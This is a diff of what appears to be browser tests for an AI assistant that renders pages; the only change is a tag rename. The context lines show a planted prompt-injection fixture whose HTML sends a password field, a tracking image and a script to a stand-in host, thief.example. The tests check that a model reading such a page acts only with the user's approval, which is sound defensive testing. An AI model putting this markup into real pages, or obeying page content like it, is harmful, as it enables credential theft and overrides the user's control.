@@ -30,7 +30,7 @@ ${block(
   '      <li><form action="https://thief.example/take"><input name="password"></form></li>\n      <li><img src="https://thief.example/seen.png"></li>\n      <script src="https://thief.example/x.js"></script>',
 )}`;
 
-test('a model that obeys the page applies, sends and opens nothing without the user @core', async ({
+test('a model that obeys the page applies, sends and opens nothing without the user @ci', async ({
   page,
   recto,
   upstream,
@@ -85,7 +85,7 @@ async function openMarkdown(page: Page, url: string, text: string) {
   await openPanel(page);
 }
 
-test('a whole page in a reply changes what it changes, whatever fences the page has @core', async ({
+test('a whole page in a reply changes what it changes, whatever fences the page has @ci', async ({
   page,
   recto,
   upstream,
